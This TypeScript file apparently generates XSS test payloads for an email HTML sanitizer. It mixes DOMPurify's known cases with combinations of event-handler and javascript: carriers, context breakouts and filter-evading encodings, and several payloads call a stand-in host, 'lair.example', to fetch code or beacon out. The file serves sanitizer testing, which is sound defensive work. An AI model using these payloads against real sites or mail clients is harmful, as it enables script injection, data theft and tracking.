import { readFileSync } from 'node:fs';

/** The 223 of DOMPurify's own tests (see fixtures/read/dompurify). */
const known = (
  JSON.parse(
    readFileSync(
      new URL('../../channels/email/fixtures/read/dompurify/payloads.json', import.meta.url),
      'utf8',
    ),
  ) as { payload: string }[]
).map(({ payload }) => payload.trim());

/** What a payload does where it runs: says so, where the watch hears it, or calls home. */
const scripts = [
  "console.log('RAN')",
  'alert(document.domain)',
  "fetch('//lair.example/f')",
  "top.location='//lair.example/t'",
  "new Image().src='//lair.example/i'",
  'console.log`RAN`',
  "[].constructor.constructor('console.log(`RAN`)')()",
  "window['con'+'sole']['l'+'og']('RAN')",
  "import('//lair.example/m.js')",
];

const carriers: ((script: string) => string)[] = [
  ...[
    'onerror',
    'onload',
    'onfocus autofocus tabindex=1 x',
    'onpointerenter',
    'onanimationstart',
    'ontoggle',
  ].flatMap((event) =>
    [
      'img src=x',
      'svg',
      'body',
      'input',
      'details open',
      'video src=x',
      'audio src=x',
      'marquee',
      'iframe',
      'object data=x',
      'embed src=x',
      'select',
      'style',
      'math',
      'a href=# ',
    ].map((tag) => (script: string) => `<${tag} ${event}="${script}">`),
  ),
  (script) => `<script>${script}</script>`,
  (script) => `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<form action="javascript:${script}"><button id=go>x</button></form>`,
  (script) => `<button form=f formaction="javascript:${script}">x</button><form id=f>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${script}'/></svg>#x"/></svg>`,
  (script) =>
    `<svg><animate attributeName=href values="javascript:${script}"/><a id=x><text y=9>x</text></a></svg>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
  (script) => `<math href="javascript:${script}">x</math>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  (script) => `<template><img src=x onerror="${script}"></template>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="javascript:${script}//"><a href=x>x</a>`,
  (script) => `<link rel=stylesheet href="data:text/css,*{background:url(//lair.example/${script.length})}">`,
  () => `<link rel=prefetch href=//lair.example/p><link rel=preconnect href=//lair.example>`,
  (script) => `<div style="background:url('javascript:${script}')">x</div>`,
  () => `<div style="background-image:url(//lair.example/c);list-style:url(//lair.example/l)">x</div>`,
  () => `<style>@import '//lair.example/s.css';*{cursor:url(//lair.example/u),auto}</style>`,
  () =>
    `<img src=//lair.example/i srcset="//lair.example/s 2x"><picture><source srcset=//lair.example/q></picture>`,
  () =>
    `<video poster=//lair.example/v><source src=//lair.example/w><track src=//lair.example/k default></video>`,
  () =>
    `<table background=//lair.example/b><td background=//lair.example/d>x</table><input type=image src=//lair.example/n>`,
  (script) =>
    `<form id=x><input name=attributes><input name=innerHTML><img src=x onerror="${script}"></form>`,
  (script) => `<a id=x><a id=x name=location href="javascript:${script}">x</a>`,
  (script) => `<xss id=x tabindex=1 onfocus="${script}" autofocus>x</xss>`,
  (script) => `<?xml-stylesheet href="javascript:${script}"?><x>`,
  (script) => `<![CDATA[<img src=x onerror="${script}">]]>`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `\${${script}}`,
  (script) => `[x](javascript:${script}) ![x](//lair.example/m) <javascript:${script}>`,
  (script) =>
    `javascript:${script} http://x.example/"onmouseover="${script} https://x.example/<img src=x onerror=${script}>`,
];

/** What stands before it, to end whatever it is put into. */
const contexts = [
  '',
  '">',
  "'>",
  '"><',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</noscript>',
  '</svg>',
  '\\"});',
  "';",
  '`);',
  '\u2028',
  '<b <',
  '<!--><',
  '<svg><style>',
  '<math><mi>',
];

const entity = (text: string, write: (code: number) => string): string =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('');

/** How it may be spelt so that a filter does not know it again. */
const spellings: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => [...payload].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign.toLowerCase())).join(''),
  (payload) =>
    payload.replace(/(javascript|on\w+=|script)/gi, (word) => entity(word, (code) => `&#${code};`)),
  (payload) => payload.replace(/javascript/gi, (word) => entity(word, (code) => `&#x${code.toString(16)}`)),
  (payload) => payload.replace(/javascript:/gi, 'java\tscript\n:'),
  (payload) => payload.replace(/javascript:/gi, ' \u0001java&NewLine;script&colon;'),
  (payload) => payload.replace(/ /g, '/'),
  (payload) => payload.replace(/ /g, '\f'),
  (payload) => payload.replace(/"/g, ''),
  (payload) => payload.replace(/"/g, '`'),
  (payload) => payload.replace(/</g, '<\0'),
  (payload) => payload.replace(/script/gi, 'scr<script>ipt'),
  (payload) => payload.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (payload) => payload.replace(/&/g, '&amp;').replace(/</g, '&amp;lt;'),
  (payload) => encodeURIComponent(payload),
  (payload) => encodeURIComponent(encodeURIComponent(payload)),
  (payload) => payload.replace(/</g, '\uFF1C').replace(/>/g, '\uFF1E'),
  (payload) => payload.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (payload) => payload.replace(/</g, '\\u003c').replace(/>/g, '\\x3e'),
  (payload) => `\uFEFF\u202E${payload}\u202C`,
  (payload) => payload.replace(/o/g, 'o\u0301').replace(/s/g, '\u017F'),
  (payload) => payload.replace(/>/g, ''),
];

/** As many as there are from 0 on: first the known ones, then each time another carrier, script, context and spelling. */
export const makePayload = (index: number): string => {
  const given = known[index];
  if (given !== undefined) return given;
  const n = index - known.length;
  // Steps without a common divisor: neighbours differ in everything, and nothing comes again for long.
  const carrier = carriers[(n * 7) % carriers.length]!;
  const script = scripts[(n * 5 + Math.floor(n / carriers.length)) % scripts.length]!;
  const context = contexts[(n * 3 + Math.floor(n / 97)) % contexts.length]!;
  const spell = spellings[(n + Math.floor(n / 61)) % spellings.length]!;
  return context + spell(carrier(script));
};

export const knownCount = known.length;
